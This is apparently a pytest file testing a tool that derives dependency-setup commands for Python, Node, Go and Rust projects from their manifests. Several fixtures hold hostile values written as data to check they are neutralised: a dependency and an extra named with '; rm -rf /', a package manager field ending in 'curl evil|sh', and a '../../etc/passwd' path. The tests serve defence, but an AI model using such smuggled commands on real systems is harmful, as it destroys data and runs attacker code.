"""What a project needs, found by its files alone."""

import json
import sys

import pytest

from agents.domain.project.environment import Ecosystem, WrittenEnvironment
from agents.workspace.environments.finding import find_environment, find_parts
from agents.workspace.environments.seen import Machine, Seen, satisfies

OURS = (sys.version_info[0], sys.version_info[1])
MACHINE = Machine(pythons={OURS: "/usr/bin/python3"}, programs={"npm": "9", "node": "v18", "cargo": "cargo 1.80"})
INSTALL = '"$LAYER/venv/bin/python" -m pip install'


def seen(version: str = "", **files: str) -> Seen:
    named = {name.replace("__", "/"): text for name, text in files.items()}
    return tree(named, version)


def tree(files: dict[str, str], version: str = "") -> Seen:
    return Seen(blobs={path: f"blob-{hash(text)}" for path, text in files.items()}, texts=files, tag=version)


def commands(files: dict[str, str], machine: Machine = MACHINE) -> tuple[str, ...]:
    return find_environment(tree(files), machine).setup


PLAIN = '[project]\nname = "a"\nversion = "1"\n'
PYTHON: dict[str, tuple[dict[str, str], str]] = {
    "extras": (
        {"pyproject.toml": PLAIN + 'dependencies = ["attrs"]\n[project.optional-dependencies]\ntest = []\ndocs = []\n'},
        f"{INSTALL} '.[test]' pytest coverage",
    ),
    "dependency groups": (
        {"pyproject.toml": PLAIN + '[dependency-groups]\ndev = ["pytest"]\ndocs = ["sphinx"]\n'},
        f"{INSTALL} . --group dev pytest coverage",
    ),
    "requirements": (
        {"requirements.txt": "attrs", "requirements-dev.txt": "pytest", "requirements-docs.txt": "sphinx", "a.py": ""},
        f"{INSTALL} -r requirements-dev.txt -r requirements.txt pytest coverage",
    ),
    "a folder of requirements": (
        {
            "pyproject.toml": PLAIN,
            "requirements/base.txt": "attrs",
            "requirements/tests.txt": "freezegun",
            "requirements/dev.txt": "tox",
            "requirements/docs.txt": "sphinx",
            "requirements/tests.in": "freezegun",
        },
        f"{INSTALL} -r requirements/base.txt -r requirements/tests.txt . pytest coverage",
    ),
    "a folder of requirements for development alone": (
        {"a.py": "", "setup.py": "", "requirements/dev.txt": "pytest"},
        f"{INSTALL} -r requirements/dev.txt . pytest coverage",
    ),
    "what tox names": (
        {"pyproject.toml": PLAIN, "tox.ini": "[testenv]\ndeps = pytest\n  pexpect>=4\n"},
        f"{INSTALL} . 'pexpect>=4' pytest coverage",
    ),
    "extras before what tox names": (
        {
            "pyproject.toml": PLAIN + "[project.optional-dependencies]\ntest = []\n",
            "tox.ini": "[testenv]\ndeps = pexpect\n",
        },
        f"{INSTALL} '.[test]' pytest coverage",
    ),
    "extras of setup.cfg": (
        {
            "setup.cfg": "[options]\ninstall_requires = attrs\n[options.extras_require]\ntesting = pytest\n",
            "setup.py": "",
        },
        f"{INSTALL} '.[testing]' pytest coverage",
    ),
    "extras of setup.py": (
        {"setup.py": 'setup(extras_require={\n  "tests": ["x"],\n "docs": []})'},
        f"{INSTALL} '.[tests]' pytest coverage",
    ),
    "groups of Poetry": (
        {
            "pyproject.toml": '[tool.poetry]\nname = "a"\n[tool.poetry.dependencies]\npython = "^3.9"\nattrs = "*"\n'
            '[tool.poetry.group.test.dependencies]\npytest = "^7.2"\ncov = {version = "~4.1", extras = ["toml"]}\n'
            'own = {path = "../own"}\n"x; rm -rf /" = "1"\n[tool.poetry.group.docs.dependencies]\nsphinx = "*"\n'
        },
        f"{INSTALL} . 'pytest>=7.2,<8' 'cov[toml]>=4.1,<4.2' pytest coverage",
    ),
    "groups of Poetry, locked": (
        {
            "pyproject.toml": '[tool.poetry]\nname = "a"\n[tool.poetry.dev-dependencies]\nPyTest = "^0.3"\n'
            '[tool.poetry.group.dev.dependencies]\nblack = {version = "23.1", optional = true}\nx = "^1 || ^2"\n',
            "poetry.lock": '[[package]]\nname = "pytest"\nversion = "8.1.1"\n',
        },
        f"{INSTALL} . PyTest==8.1.1 x pytest coverage",
    ),
    "an extra whose name is a command": (
        {"pyproject.toml": PLAIN + 'dependencies = ["x"]\n[project.optional-dependencies]\n"test; rm -rf /" = []\n'},
        f"{INSTALL} . pytest coverage",
    ),
}


@pytest.mark.parametrize("case", PYTHON)
def test_python_is_installed_with_what_its_checks_need(case: str) -> None:
    files, last = PYTHON[case]
    found = commands(files)
    assert found[0] == '"$PYTHON" -m venv "$LAYER/venv"'
    assert found[-1] == last


def test_a_lock_of_uv_is_followed_without_asking_the_addresses_in_it() -> None:
    files = {"uv.lock": "", "pyproject.toml": PLAIN + "[dependency-groups]\ndev = []\n[build-system]\nrequires = []\n"}
    found = commands(files)
    assert '"$LAYER/tools/bin/uv" export --frozen --no-emit-project --no-header --quiet --group dev' in found[2]
    with_uv = Machine(pythons=MACHINE.pythons, programs={"uv": "uv 0.9"})
    assert commands(files, with_uv)[1].startswith("uv export --frozen")
    assert not any("sync" in command for command in found)


def test_a_workspace_of_uv_is_locked_as_a_whole_and_its_members_are_installed_from_the_tree() -> None:
    build = "[build-system]\nrequires = []\n"
    files = {
        "uv.lock": "",
        "pyproject.toml": PLAIN + '[tool.uv.workspace]\nmembers = ["packages/*"]\n',
        "packages/api/pyproject.toml": f'[project]\nname = "api"\ndependencies = ["core"]\n{build}',
        "packages/core/pyproject.toml": f'[project]\nname = "core"\n{build}',
    }
    (part,) = find_parts(tree(files), MACHINE)
    assert "export --frozen --all-packages --no-emit-workspace" in part.setup[2]
    assert "install --no-deps ./packages/api ./packages/core && " in part.setup[-1]
    assert part.members == ("packages/api", "packages/core") and set(part.locks) == set(files)


def test_what_another_package_of_the_repository_needs_is_installed_before_it() -> None:
    """An index may have a stranger's package of that name."""
    files = {
        "api/pyproject.toml": '[project]\nname = "api"\ndependencies = ["Shop_Core"]\n',
        "core/pyproject.toml": '[project]\nname = "shop-core"\ndependencies = ["attrs"]\n',
        "ring/pyproject.toml": '[project]\nname = "ring"\ndependencies = ["ring", "api"]\n',
    }
    assert [part.folder for part in find_parts(tree(files), MACHINE)] == ["core", "api", "ring"]


def test_packages_with_tests_are_set_up_beside_a_root_that_installs_something_itself() -> None:
    files = {
        "pyproject.toml": PLAIN + 'dependencies = ["attrs"]\n',
        "plugin/pyproject.toml": '[project]\nname = "p"\ndependencies = ["x"]\n',
        "plugin/tests/test_it.py": "",
        "scripts/requirements.txt": "x",
    }
    assert [part.folder for part in find_parts(tree(files), MACHINE)] == ["", "plugin"]


@pytest.mark.parametrize("files", [{"pyproject.toml": PLAIN}, {"pyproject.toml": "[tool.ruff]\n"}, {"a.py": ""}, {}])
def test_a_project_without_dependencies_needs_no_set_up(files: dict[str, str]) -> None:
    assert commands(files) == ()


VCS = '[build-system]\nrequires = ["hatchling", "hatch-vcs"]\n[project]\nname = "a"\ndynamic = ["version"]\n'


@pytest.mark.parametrize(
    ("manifest", "path"),
    [
        (VCS + '[tool.hatch.build.hooks.vcs]\nversion-file = "src/a/_version.py"\n', "src/a/_version.py"),
        (
            '[build-system]\nrequires = ["setuptools", "setuptools_scm[toml]>=6"]\n[tool.setuptools_scm]\n'
            'write_to = "a/_v.py"\n',
            "a/_v.py",
        ),
    ],
)
def test_a_version_that_git_would_tell_is_told_and_its_file_is_kept(manifest: str, path: str) -> None:
    found = find_environment(tree({"pyproject.toml": manifest}, version="2.3"), MACHINE)
    assert found.generated_files == (path,)
    assert found.made_variables["SETUPTOOLS_SCM_PRETEND_VERSION"] == "2.3"
    untagged = find_environment(tree({"pyproject.toml": manifest}), MACHINE)
    assert untagged.made_variables["SETUPTOOLS_SCM_PRETEND_VERSION"] == "0.0.0"


@pytest.mark.parametrize("tool", ["setuptools-git-versioning>=2", "versioningit", "versioneer[toml]"])
def test_a_tool_that_only_reads_git_is_given_a_repository_with_the_tag(tool: str) -> None:
    manifest = f'[build-system]\nrequires = ["setuptools", "{tool}"]\n[project]\nname = "a"\n'
    files = {"pyproject.toml": manifest + 'dependencies = ["attrs"]\n'}
    first = find_environment(tree(files, version="rel/2.3; x"), MACHINE).setup[0]
    assert first.startswith("git init -q . && git add -A && ") and first.endswith(" && git tag 'rel/2.3; x'")
    assert not find_environment(tree(files), MACHINE).setup[0].startswith("git"), "without a tag it would tell nothing"


def test_a_generated_file_is_never_one_outside_of_the_project() -> None:
    manifest = VCS + '[tool.hatch.build.hooks.vcs]\nversion-file = "../../etc/passwd"\n'
    assert find_environment(tree({"pyproject.toml": manifest + "x = 1\n"}), MACHINE).generated_files == ()


def package(**more: object) -> str:
    return json.dumps({"name": "a", "devDependencies": {"mocha": "1"}, **more})


NODE: dict[str, tuple[dict[str, str], str]] = {
    "npm": ({"package.json": package(), "package-lock.json": "{}"}, "npm ci --no-audit --no-fund"),
    "no lock": ({"package.json": package()}, "npm install --no-package-lock --no-audit --no-fund"),
    "pnpm": (
        {"package.json": package(packageManager="pnpm@8.2.1"), "pnpm-lock.yaml": ""},
        "npx --yes pnpm@8.2.1 install --frozen-lockfile",
    ),
    "yarn": (
        {"package.json": package(packageManager="yarn@1.22.19"), "yarn.lock": ""},
        "npx --yes yarn@1.22.19 install --frozen-lockfile --non-interactive",
    ),
    "yarn berry": (
        {"package.json": package(packageManager="yarn@4.1.0"), "yarn.lock": "", ".yarnrc.yml": ""},
        "npx --yes @yarnpkg/cli-dist@4.1.0 install --immutable",
    ),
    "yarn berry of no version": (
        {"package.json": package(), "yarn.lock": "", ".yarnrc.yml": ""},
        "npx --yes @yarnpkg/cli-dist@4 install --no-immutable",
    ),
    "yarn berry without settings": (
        {"package.json": package(packageManager="yarn@3.6.4+sha256.ab"), "yarn.lock": ""},
        "npx --yes @yarnpkg/cli-dist@3.6.4 install --immutable",
    ),
    "a manager that is a command": (
        {"package.json": package(packageManager="pnpm@8;curl evil|sh"), "pnpm-lock.yaml": ""},
        "npx --yes pnpm@8 install --frozen-lockfile",
    ),
    "in a folder": (
        {"web app/package.json": package()},
        "cd 'web app' && npm install --no-package-lock --no-audit --no-fund",
    ),
}


@pytest.mark.parametrize("case", NODE)
def test_node_is_installed_by_the_lock_that_is_there(case: str) -> None:
    files, command = NODE[case]
    assert commands(files) == (command,)


def test_a_workspace_is_set_up_from_its_root_and_known_by_all_its_members() -> None:
    files = {
        "package.json": package(workspaces=["packages/*"]),
        "package-lock.json": "{}",
        "packages/one/package.json": package(),
        "packages/two/package.json": package(),
    }
    found = find_parts(tree(files), MACHINE)
    assert [part.setup for part in found] == [("npm ci --no-audit --no-fund",)]
    assert set(found[0].locks) == set(files)


@pytest.mark.parametrize(
    ("lock", "command"),
    [
        ("package-lock.json", "npm ci --no-audit --no-fund"),
        ("pnpm-lock.yaml", "npx --yes pnpm@9 install --frozen-lockfile"),
        ("yarn.lock", "npx --yes yarn@1.22.22 install --frozen-lockfile --non-interactive"),
    ],
)
def test_a_workspace_in_a_folder_is_set_up_once_by_its_manager(lock: str, command: str) -> None:
    root = {"front/pnpm-workspace.yaml": ""} if lock == "pnpm-lock.yaml" else {}
    files = {
        "api/requirements.txt": "attrs",
        "front/package.json": package(**({} if root else {"workspaces": ["apps/*"]})),
        f"front/{lock}": "",
        **root,
        "front/apps/shop/package.json": package(),
        "tool/package.json": package(),
    }
    node = [part for part in find_parts(tree(files), MACHINE) if part.ecosystem is Ecosystem.NODE]
    assert [part.setup for part in node] == [
        (f"cd front && {command}",), ("cd tool && npm install --no-package-lock --no-audit --no-fund",)
    ]  # fmt: skip
    assert "front/apps/shop/package.json" in node[0].locks and "tool/package.json" not in node[0].locks


def test_what_a_package_is_entered_by_is_built_where_the_repository_does_not_hold_it() -> None:
    built = package(main="dist/index.js", scripts={"build": "tsc"})
    assert find_environment(tree({"package.json": built}), MACHINE).prepare == ("npm run --silent build",)
    assert find_environment(tree({"package.json": built, "dist/index.js": ""}), MACHINE).prepare == ()


NATIVE: dict[str, tuple[dict[str, str], tuple[str, ...]]] = {
    "go": ({"go.mod": "module a\nrequire b v1\n"}, ("go mod download",)),
    "go, standard library alone": ({"go.mod": "module a\n"}, ()),
    "go, vendored": ({"go.mod": "module a\nrequire b v1\n", "vendor/modules.txt": ""}, ()),
    "rust": ({"Cargo.toml": '[dependencies]\nserde = "1"\n', "Cargo.lock": ""}, ("cargo fetch --locked",)),
    "rust, no lock": ({"Cargo.toml": '[dev-dependencies]\nserde = "1"\n'}, ("cargo fetch",)),
    "rust, vendored": ({"Cargo.toml": '[dependencies]\na = "1"\n', ".cargo/config.toml": ""}, ()),
    "rust, no crates": ({"Cargo.toml": '[package]\nname = "a"\n'}, ()),
}


@pytest.mark.parametrize("case", NATIVE)
def test_go_and_rust_fetch_what_they_need(case: str) -> None:
    files, wanted = NATIVE[case]
    assert commands(files) == wanted


def test_several_in_one_repository_are_all_found() -> None:
    files = {
        "api/pyproject.toml": PLAIN + 'dependencies = ["attrs"]\n',
        "worker/requirements.txt": "attrs",
        "web/package.json": package(),
        "tool/go.mod": "module a\nrequire b v1\n",
        "core/Cargo.toml": '[dependencies]\na = "1"\n',
        "tests/fixtures/app/package.json": package(),
        "node_modules/x/package.json": package(),
    }
    found = find_parts(tree(files), MACHINE)
    assert [(part.ecosystem, part.folder) for part in found] == [
        (Ecosystem.PYTHON, "api"),
        (Ecosystem.PYTHON, "worker"),
        (Ecosystem.NODE, "web"),
        (Ecosystem.GO, "tool"),
        (Ecosystem.RUST, "core"),
    ]
    assert (
        sum("venv" in command.split("pip")[0] and " -m venv" in command for part in found for command in part.setup)
        == 1
    )


def test_what_the_operator_set_up_by_hand_is_left_to_them() -> None:
    files = {"requirements.txt": "attrs", "package.json": package()}
    found = find_parts(tree(files), MACHINE, {Ecosystem.PYTHON})
    assert [part.ecosystem for part in found] == [Ecosystem.NODE]


def test_what_is_written_wins_and_counts_as_consent() -> None:
    files = {"requirements.txt": "attrs", "package.json": package(main="dist/a.js", scripts={"build": "x"})}
    written = WrittenEnvironment(setup=("make setup",), secrets=("KEY",))
    found = find_environment(tree(files), MACHINE, written)
    assert (found.setup, found.written, found.prepare) == (("make setup",), True, ("npm run --silent build",))
    nothing = find_environment(tree(files), MACHINE, WrittenEnvironment(setup=(), prepare=()))
    assert (nothing.setup, nothing.prepare, nothing.written) == ((), (), True)


def test_the_key_follows_locks_commands_and_toolchain_and_nothing_else() -> None:
    files = {"requirements.txt": "attrs", "a.py": "one"}
    now = tree(files)
    key = find_environment(now, MACHINE).key(now.blobs)
    same = tree({**files, "a.py": "two"})
    assert find_environment(same, MACHINE).key(same.blobs) == key
    locked = tree({**files, "requirements.txt": "attrs==1"})
    newer = Machine(pythons={(3, 99): "/usr/bin/python3.99"})
    other = {
        find_environment(locked, MACHINE).key(locked.blobs),
        find_environment(now, newer).key(now.blobs),
        find_environment(now, MACHINE, WrittenEnvironment(setup=("make",))).key(now.blobs),
        find_environment(now, MACHINE, WrittenEnvironment(secrets=("A",))).key(now.blobs),
    }
    assert len(other) == 4
    assert key not in other


def test_consent_is_to_the_exact_commands() -> None:
    one = find_environment(tree({"requirements.txt": "attrs"}), MACHINE)
    locked = find_environment(tree({"requirements.txt": "attrs==1"}), MACHINE)
    more = find_environment(tree({"requirements.txt": "attrs", "requirements-dev.txt": ""}), MACHINE)
    secret = find_environment(tree({"requirements.txt": "attrs"}), MACHINE, WrittenEnvironment(secrets=("A",)))
    assert one.consent == locked.consent
    assert len({one.consent, more.consent, secret.consent}) == 3


@pytest.mark.parametrize(
    "text", ["[", '"', '{"workspaces": 5, "scripts": []}', "[project]\ndependencies = 5\n[dependency-groups]\n", "\0"]
)
def test_untidy_manifests_are_borne(text: str) -> None:
    names = ("pyproject.toml", "package.json", "setup.cfg", "setup.py", "Cargo.toml", "go.mod", "requirements.txt")
    find_environment(tree(dict.fromkeys(names, text)), MACHINE)


@pytest.mark.parametrize(
    ("wanted", "fits"),
    [
        (">=3.9", True),
        (">=3.12", False),
        (">=3.8,<3.12", True),
        ("<3.11", False),
        ("~=3.9", True),
        ("==3.11.*", True),
        ("!=3.11", False),
        (">3.10", True),
        (">=3.11.4", True),
        ("<4", True),
        ("", True),
        ("nonsense", True),
    ],
)
def test_which_python_will_do(wanted: str, fits: bool) -> None:
    assert satisfies((3, 11), wanted) is fits


def test_a_python_that_is_not_there_is_said() -> None:
    files = {"pyproject.toml": PLAIN + 'requires-python = ">=3.99"\ndependencies = ["a"]\n'}
    assert find_parts(tree(files), MACHINE)[0].toolchain == "Python >=3.99"
